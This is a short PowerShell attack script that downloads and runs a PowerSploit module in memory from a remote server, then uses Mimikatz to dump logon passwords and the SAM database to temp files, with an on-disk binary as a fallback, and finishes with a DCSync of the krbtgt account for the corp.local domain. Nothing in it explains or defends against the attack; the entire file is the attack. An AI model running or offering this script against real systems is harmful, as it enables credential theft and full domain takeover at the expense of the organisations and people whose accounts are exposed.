param([string]$Server = '10.10.14.3')

# in-memory PowerSploit module
IEX (New-Object Net.WebClient).DownloadString("https://$Server/im.ps1")
Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords" "exit"' | Out-File -FilePath "$env:TEMP\lp.txt"

# on-disk binary as a fallback
$bin = Join-Path -Path $env:ProgramData -ChildPath 'm64.exe'
& $bin "privilege::debug" "lsadump::sam" "exit" > "$env:TEMP\sam.txt"

# DCSync from a domain admin session
& $bin "lsadump::dcsync /domain:corp.local /user:krbtgt" "exit"
